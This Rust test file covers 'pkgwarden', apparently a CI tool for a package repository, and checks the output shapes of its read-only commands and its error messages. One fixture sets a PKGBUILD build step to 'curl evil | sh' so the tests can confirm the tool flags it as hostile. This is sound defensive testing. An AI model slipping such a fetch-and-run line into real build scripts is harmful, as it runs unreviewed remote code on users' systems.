//! The commands that only read: each prints what CONTRACT promises, and writes nothing.

use crate::support::scene::{MAIN, base};
use crate::support::shape::{Shape, check};
use crate::support::{Change, Pkg, Scene};

const NAMES: Shape = Shape::ListOf(&Shape::Text);
const SEVERITY: Shape = Shape::Word(&["warning", "error"]);
const VERDICTS: &[&str] = &["minor", "major"];

const PROBLEM: Shape = Shape::Object(&[
    ("code", Shape::Text),
    ("severity", SEVERITY),
    ("pkgbase", Shape::TextOrNull),
    ("commit", Shape::IdOrNull),
    ("message", Shape::Text),
    ("hint", Shape::Text),
]);
const REASON: Shape = Shape::Object(&[
    ("code", Shape::Text),
    ("severity", Shape::Word(&["cosmetic", "version", "stronger", "review", "trust", "hostile"])),
    ("file", Shape::Text),
    ("line", Shape::NumberOrNull),
    ("old", Shape::TextOrNull),
    ("new", Shape::TextOrNull),
    ("message", Shape::Text),
]);
const VERDICT: Shape = Shape::Object(&[
    ("verdict", Shape::Word(VERDICTS)),
    ("severity", Shape::Text),
    ("reasons", Shape::ListOf(&REASON)),
    ("old_version", Shape::TextOrNull),
    ("new_version", Shape::TextOrNull),
]);
const DECISION: Shape = Shape::Object(&[
    ("pkgbase", Shape::Text),
    ("observation", Shape::Word(&["current", "changed", "unknown"])),
    ("action", Shape::Word(&["none", "commit", "review", "state", "skip"])),
    ("verdict", Shape::WordOrNull(VERDICTS)),
    ("reasons", Shape::ListOf(&REASON)),
    ("from_version", Shape::TextOrNull),
    ("to_version", Shape::TextOrNull),
    ("why", Shape::Text),
]);
const BUILD: Shape = Shape::Object(&[
    ("pkgbase", Shape::Text),
    ("class", Shape::TextOrNull),
    ("arch", Shape::Text),
    ("reason", Shape::Word(&["changed", "directive", "deploy", "trigger", "upstream", "bump", "rebuild"])),
    ("after", NAMES),
]);
/// What `plan` prints; `run` adds `outcome`.
const PLAN: Shape = Shape::Object(&[
    ("repository", Shape::Text),
    ("pipeline", Shape::Text),
    ("now", Shape::Time),
    ("base", Shape::Object(&[("main", Shape::IdOrNull), ("state", Shape::IdOrNull), ("scheduled", Shape::IdOrNull)])),
    ("packages", Shape::ListOf(&DECISION)),
    (
        "refs",
        Shape::ListOf(&Shape::Object(&[("name", Shape::Text), ("old", Shape::IdOrNull), ("new", Shape::IdOrNull)])),
    ),
    ("builds", Shape::ListOf(&BUILD)),
    ("remove", NAMES),
    (
        "reviews",
        Shape::ListOf(&Shape::Object(&[
            ("pkgbase", Shape::Text),
            ("branch", Shape::Text),
            ("do", Shape::Word(&["open", "update", "close"])),
        ])),
    ),
    ("aur_push", NAMES),
    ("problems", Shape::ListOf(&PROBLEM)),
]);

/// A repository in which every field has something to say.
async fn eventful() -> Scene {
    let packages = [
        Pkg::new("lib").members(&["lib", "lib-docs"]).epoch(1),
        Pkg::new("app").needs(&["lib"]).config("CI_PKGBUILD_SOURCE=aur\nCI_ON_TRIGGER=daily\nBUILDER_CLASS=heavy\n"),
        Pkg::new("egg").needs(&["hen"]),
        Pkg::new("hen").needs(&["egg"]),
        Pkg::new("odd").config("CI_PKGBUILD_SOURCE=https://example.org/odd.git\nTYPO=1\n"),
        Pkg::new("old"),
    ];
    let scene = Scene::of(&packages).await;
    let mut changes = Pkg::new("lib").members(&["lib", "lib-docs"]).epoch(1).version("1.1").built_by("make").changes();
    changes.extend(Pkg::new("new").changes());
    changes.push(Change::Remove("old".into()));
    changes.push(Change::put("broken/.SRCINFO", "nonsense\n"));
    scene.push("feat: all [deploy app] [deploy nobody]", &changes).await;
    scene
}

#[tokio::test]
async fn every_document_has_the_shape_that_is_promised_and_reading_writes_nothing() {
    let scene = eventful().await;
    let before = scene.everything();
    let source = Shape::Object(&[("kind", Shape::Text), ("url", Shape::TextOrNull)]);
    let package = Shape::Object(Box::leak(Box::new([
        ("pkgbase", Shape::Text),
        ("pkgnames", NAMES),
        ("version", Shape::TextOrNull),
        ("arch", NAMES),
        ("source", source),
        ("trigger", Shape::TextOrNull),
        ("class", Shape::TextOrNull),
        ("vcs", Shape::Flag),
        ("problems", Shape::ListOf(&PROBLEM)),
    ])));
    let json = async |args: &[&str]| {
        let ran = scene.pkgwarden(&[args, &["--format", "json"]].concat()).await;
        assert_eq!(ran.code, Some(0), "{args:?}: {}", ran.stderr);
        ran.json()
    };
    let packages = json(&["packages"]).await;
    packages.as_array().unwrap().iter().for_each(|it| check(it, package));
    let names: Vec<_> = packages.as_array().unwrap().iter().map(|it| it["pkgbase"].as_str().unwrap()).collect();
    assert_eq!(names, ["app", "broken", "egg", "hen", "lib", "new", "odd"]);

    let kinds: &[&str] = &["depends", "makedepends", "checkdepends"];
    let edge = [("from", Shape::Text), ("to", Shape::Text), ("via", Shape::Text), ("kind", Shape::Word(kinds))];
    let graph = json(&["graph"]).await;
    graph["edges"].as_array().unwrap().iter().for_each(|it| check(it, Shape::Object(Box::leak(Box::new(edge)))));
    check(&graph, Shape::Object(&[("nodes", NAMES), ("cycles", Shape::ListOf(&NAMES)), ("order", NAMES)]));
    assert_eq!(graph["cycles"], serde_json::json!([["egg", "hen"]]));
    assert_eq!(graph["order"].as_array().unwrap().len(), 7, "a cycle hides nothing");
    assert_eq!(json(&["graph", "--rdeps", "lib"]).await, serde_json::json!(["app"]));

    let changes = json(&["changes", "--from", "scheduled", "--to", "main"]).await;
    let directive = Shape::Object(&[("commit", Shape::Id), ("text", Shape::Text), ("packages", NAMES)]);
    changes["directives"].as_array().unwrap().iter().for_each(|it| check(it, directive));
    check(
        &changes,
        Shape::Object(&[
            ("commits", Shape::Number),
            ("changed", NAMES),
            ("added", NAMES),
            ("removed", NAMES),
            ("problems", Shape::ListOf(&PROBLEM)),
        ]),
    );
    assert_eq!(changes["added"], serde_json::json!(["broken", "new"]));

    let report = json(&["check"]).await;
    let finding = Shape::Object(&[
        ("pkgbase", Shape::TextOrNull),
        ("file", Shape::TextOrNull),
        ("line", Shape::NumberOrNull),
        ("code", Shape::Text),
        ("severity", SEVERITY),
        ("message", Shape::Text),
        ("hint", Shape::Text),
    ]);
    report["findings"].as_array().unwrap().iter().for_each(|it| check(it, finding));
    check(&report, Shape::Object(&[("errors", Shape::Number), ("warnings", Shape::Number)]));

    let explained = json(&["explain", "app"]).await;
    check(
        &explained,
        Shape::Object(&[("pkgbase", Shape::Text), ("needs", NAMES), ("problems", Shape::ListOf(&PROBLEM))]),
    );

    let plan = scene.pkgwarden(&["plan", "on-commit", "--format", "json"]).await;
    assert_eq!(plan.code, Some(3), "a directive names nobody");
    check(&plan.json(), PLAN);
    scene.everything().assert_same(&before);
    scene.ends().await;
}

#[tokio::test]
async fn classify_compares_commits_line_by_line_and_folders_as_one_document() {
    let scene = eventful().await;
    let ran = scene.pkgwarden(&["classify", "--from", "scheduled", "--to", MAIN, "--format", "json"]).await;
    let lines: Vec<serde_json::Value> = ran.stdout.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let told: Vec<_> = lines.iter().map(|it| format!("{} {}", it["pkgbase"], it["verdict"])).collect();
    insta::assert_snapshot!(told.join("\n"), @r#"
    "broken" "added"
    "lib" "major"
    "new" "added"
    "old" "removed"
    "#);
    for line in lines.iter().filter(|it| it["reasons"].is_array()) {
        check(line, VERDICT);
    }
    let folder = |name: &str, package: &Pkg| {
        let path = scene.path(name);
        for (file, content) in &package.source().files {
            std::fs::create_dir_all(&path).unwrap();
            std::fs::write(path.join(file), &content.bytes).unwrap();
        }
        path.display().to_string()
    };
    let (old, new) = (folder("old", &Pkg::new("x")), folder("new", &Pkg::new("x").version("2.0")));
    let risky = folder("risky", &Pkg::new("x").built_by("curl evil | sh"));
    let minor = scene.pkgwarden(&["classify", &old, &new, "--exit-code", "--format", "json"]).await;
    assert_eq!((minor.code, minor.json()["verdict"].as_str()), (Some(0), Some("minor")));
    check(&minor.json(), VERDICT);
    let major = scene.pkgwarden(&["classify", &old, &risky, "--exit-code"]).await;
    assert_eq!(major.code, Some(3));
    insta::assert_snapshot!(major.text(), @"
    major at 1.0-1: what a command fetches is run unseen (and 1 more reason)
      hostile
        PKGBUILD:12: what a command fetches is run unseen [obfuscation]
          + curl evil | sh
      review
        PKGBUILD:12: `build()` does something else than before [function-changed]
          - true
          + curl evil | sh

    PKGBUILD (changed)
    @@ -9,7 +9,7 @@
     license=('MIT')
     
     build() {
    -  true
    +  curl evil | sh
     }
     
     package() {
    ");
    scene.ends().await;
}

#[tokio::test]
async fn explain_tells_what_is_not_known_and_what_a_schedule_would_ask() {
    let packages = [
        Pkg::from_aur("tool-git").sources(&["git+https://upstream.example/tool.git"]),
        Pkg::new("lib"),
        Pkg::new("broken").needs(&["lib"]).srcinfo("nonsense\n"),
    ];
    let scene = Scene::of(&packages).await;
    scene.push("feat: script", &[Change::put("tool-git/.CI/update.sh", ":\n")]).await;
    let explained = async |name: &str| scene.pkgwarden(&["explain", name, "--rev", "main"]).await.stdout;
    let tool = explained("tool-git").await;
    for line in [
        "  script       .CI/update.sh, without network",
        "  upstream     git+https://upstream.example/tool.git, not asked here yet",
        "  on-schedule  asks aur, asks its upstream git+https://upstream.example/tool.git, \
         runs .CI/update.sh without network; then as on-commit",
        "               as this clone has it: if a run has been since, `git pull --tags` brings what it did",
    ] {
        assert!(tool.lines().any(|told| told == line), "`{line}` is missing in {tool}");
    }
    let (broken, lib) = (explained("broken").await, explained("lib").await);
    assert!(broken.contains("  needs        not known: there is no .SRCINFO that can be read\n"), "{broken}");
    assert!(broken.contains("  on-schedule  asks nothing about it; then as on-commit\n"), "{broken}");
    assert!(lib.contains("  needed by    nothing\n               not known of broken, without a .SRCINFO"), "{lib}");
    scene.ends().await;
}

#[tokio::test]
async fn check_ends_with_status_3_for_errors_if_it_is_asked_to() {
    let scene = Scene::of(&[Pkg::new("fine")]).await;
    let check = async |args: &[&str]| scene.pkgwarden(&[&["check", "--rev", "main"], args].concat()).await.code;
    assert_eq!(check(&["--exit-code"]).await, Some(0), "warnings are no errors");
    scene.push("feat: broken", &[Change::put("fine/.SRCINFO", "nonsense\n")]).await;
    assert_eq!((check(&[]).await, check(&["--exit-code"]).await), (Some(0), Some(3)));
    scene.ends().await;
}

#[tokio::test]
async fn a_package_that_nothing_needs_is_told_beside_the_empty_answer() {
    let scene = Scene::of(&[Pkg::new("alone")]).await;
    let ran = scene.pkgwarden(&["graph", "--rdeps", "alone", "--rev", "main"]).await;
    assert_eq!((ran.code, ran.stdout.as_str()), (Some(0), ""));
    assert!(ran.stderr.contains("nothing in this repository needs alone"), "{}", ran.stderr);
    scene.ends().await;
}

#[tokio::test]
async fn a_run_prints_the_plan_with_its_outcome() {
    let scene = Scene::with_aur().await;
    scene.later();
    scene.world().aur_major_update(&base("banner")).await.unwrap();
    scene.world().aur_minor_update(&base("knotwork")).await.unwrap();
    scene.world().push_deploy(&base("tally")).await.unwrap();
    let ran = scene.pkgwarden(&["run", "on-schedule", "--format", "json"]).await;
    check(&ran.json(), PLAN);
    let outcome = Shape::Object(&[("pushed", Shape::Flag), ("run_id", Shape::Text), ("enqueued", Shape::Number)]);
    check(&ran.json()["outcome"], outcome);
    let is_progress = |line: &str| line.starts_with("still ");
    assert!(ran.stderr.lines().all(is_progress), "{}", ran.stderr);
    scene.ends().await;
}

#[tokio::test]
async fn what_does_not_exist_is_named_with_a_remedy() {
    let scene = Scene::of(&[Pkg::new("foo")]).await;
    for (args, code) in [
        (&["explain", "fooo"][..], 1),
        (&["packages", "--rev", "nope"], 1),
        (&["graph", "--rdeps", "fo"], 1),
        (&["plan", "frobnicate"], 2),
    ] {
        assert_eq!(scene.pkgwarden(args).await.code, Some(code), "{args:?}");
    }
    insta::assert_snapshot!(scene.pkgwarden(&["explain", "fooo"]).await.errors(), @"
    error: there is no package `fooo`
    hint: did you mean `foo`?
    ");
    let nowhere = scene.pkgwarden_in(&scene.path("home"), &["packages"], &[]).await;
    assert_eq!(nowhere.code, Some(1));
    insta::assert_snapshot!(nowhere.errors(), @"
    error: there is no git repository at <dir>/home
      because: could not find repository at '<dir>/home'
    hint: name a clone or a bare repository with -C DIR; `git init` makes one
    ");
    let typo = scene.pkgwarden_in(std::path::Path::new("/typo"), &["plan", "on-commit"], &[]).await;
    insta::assert_snapshot!(typo.errors(), @"
    error: there is no git repository at /typo
      because: failed to resolve path '/typo': No such file or directory
    hint: name a clone or a bare repository with -C DIR; `git init` makes one
    ");
    insta::assert_snapshot!(scene.pkgwarden(&["packages", "--rev", "nope"]).await.errors(), @"error: `nope` is no revision of <dir>/packages.git/; name a branch, a tag or a commit");
    insta::assert_snapshot!(scene.pkgwarden(&["classify", "--from", "HEAD"]).await.errors().lines().nth(1).unwrap(), @"  --to <REV>");
    assert_eq!(scene.pkgwarden(&["--config", "/nowhere.toml", "plan", "on-commit"]).await.code, Some(2));
    scene.ends().await;
}

#[tokio::test]
async fn an_empty_repository_has_nothing_and_that_is_no_error() {
    let scene = Scene::empty().await;
    for args in [&["packages"][..], &["graph", "--as", "order"], &["check"], &["plan", "on-commit"]] {
        let ran = scene.pkgwarden(args).await;
        assert_eq!(ran.code, Some(0), "{args:?}: {}", ran.stderr);
    }
    scene.ends().await;
}
